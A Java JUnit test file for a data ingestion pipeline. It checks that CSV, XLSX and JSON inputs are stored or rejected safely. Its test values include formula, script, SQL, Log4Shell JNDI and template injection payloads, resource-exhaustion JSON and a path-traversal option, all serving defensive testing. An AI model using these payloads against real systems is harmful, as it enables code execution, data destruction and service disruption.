package io.customerhub.pipeline;

import static org.assertj.core.api.Assertions.assertThat;

import io.customerhub.record.Rejection;
import java.io.OutputStream;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Values that attack whoever reads them next (faults 31 to 33): they arrive as they are, or not at all. */
class HostileValuesTest {

    private static final List<String> VALUES = List.of(
            "=cmd|' /C calc'!A0",
            "+86 138 1234 5678",
            "-2+3",
            "@SUM(1+1)",
            "\tTAB",
            "<script>alert('x')</script>",
            "'; DROP TABLE hub.run; --",
            "${jndi:ldap://evil/x}",
            "{{password}}",
            "${camelContext.stop}");

    @TempDir
    Path directory;

    @Test
    void formulasMarkupAndSqlAreStoredAsTheyAre() throws Exception {
        try (DropFixture drop = new DropFixture(directory, "csv-file")) {
            drop.drop("a.csv", "value~other\n" + String.join("~1\n", VALUES) + "~1\n");
            drop.start("delimiter=~");
            drop.awaitEmpty();
            assertThat(drop.hub.values("value")).isEqualTo(VALUES);
        }
        try (DropFixture drop = new DropFixture(directory, "xlsx-file")) {
            try (XSSFWorkbook book = new XSSFWorkbook();
                    OutputStream out = Files.newOutputStream(directory.resolve("a.xlsx"))) {
                XSSFSheet sheet = book.createSheet();
                sheet.createRow(0).createCell(0).setCellValue("value");
                for (int i = 0; i < VALUES.size(); i++) {
                    sheet.createRow(i + 1).createCell(0).setCellValue(VALUES.get(i));
                }
                book.write(out);
            }
            drop.start();
            drop.awaitEmpty();
            assertThat(drop.hub.values("value")).isEqualTo(VALUES);
            assertThat(drop.names(".done")).contains("a.xlsx");
        }
    }

    @Test
    void jsonThatIsTooDeepOrHasHugeNumbersCostsItsRecordOnly() throws Exception {
        String deep = "[".repeat(100_000) + "]".repeat(100_000);
        String huge = "9".repeat(10 << 20);
        try (DropFixture drop = new DropFixture(directory, "json-file")) {
            drop.drop(
                    "lines.jsonl",
                    "{\"id\":\"1\"}\n{\"id\":" + deep + "}\n{\"id\":" + huge
                            + "}\n{\"id\":1e999999999}\n{\"id\":\"2\"}\n");
            drop.start("format=lines");
            drop.awaitEmpty();
            assertThat(drop.hub.values("id")).containsExactly("1", "2");
            assertThat(drop.hub.rejections())
                    .extracting(Rejection::code)
                    .containsOnly("HUB-READ-031")
                    .hasSize(3);
        }
    }

    @Test
    void aDocumentThatIsTooDeepEndsThere() throws Exception {
        try (DropFixture drop = new DropFixture(directory, "json-file")) {
            drop.drop("deep.json", "[{\"id\":\"1\"}," + "[".repeat(100_000));
            drop.drop("huge.json", "[{\"id\":\"1\"},{\"id\":" + "9".repeat(10 << 20) + "}]");
            drop.start("partial=allow");
            drop.awaitEmpty();
            assertThat(drop.hub.letters)
                    .extracting(Rejection::code)
                    .containsOnly("HUB-READ-008")
                    .hasSize(2);
        }
    }

    @Test
    void aDetectedCharsetNeverMakesWrongLetters() throws Exception {
        String chinese = "编号;姓名\n1;王小明\n2;张伟\n3;许新宇\n";
        String german = "Nr;Name\n1;Jürgen Müller\n2;Käthe Groß\n";
        try (DropFixture drop = new DropFixture(directory, "csv-file")) {
            drop.drop("a.csv", chinese.getBytes(Charset.forName("GB18030")));
            drop.drop("b.csv", german.getBytes(Charset.forName("windows-1252")).clone());
            drop.drop("c.csv", ("\uFEFF" + german.replace("Nr", "N")).getBytes(StandardCharsets.UTF_16LE));
            drop.drop("d.csv", "id;jméno\n1;Jiří Dvořák\n".getBytes(Charset.forName("windows-1250")));
            drop.start("charset=detect", "delimiter=detect");
            drop.awaitEmpty();
            assertThat(drop.hub.batches).hasSize(3);
            assertThat(drop.hub.values("姓名")).contains("王小明", "张伟", "许新宇");
            assertThat(drop.hub.values("Name")).contains("Jürgen Müller", "Käthe Groß");
            assertThat(drop.hub.letters).extracting(Rejection::code).containsExactly("HUB-READ-052");
            assertThat(drop.names(".failed")).containsExactly("d.csv");
        }
    }

    @Test
    void optionsThatMakeNoSenseAreRefusedBeforeAnythingIsRead() throws Exception {
        for (String option : List.of(
                "charset=utf-eight",
                "delimiter=;;",
                "trailer=TRL",
                "control=done.ctl",
                "control=../{name}",
                "maxRatio=0")) {
            try (DropFixture drop = new DropFixture(directory, "csv-file")) {
                org.assertj.core.api.Assertions.assertThatThrownBy(() -> drop.start(option))
                        .as(option)
                        .hasStackTraceContaining("IllegalArgumentException");
            }
        }
    }
}
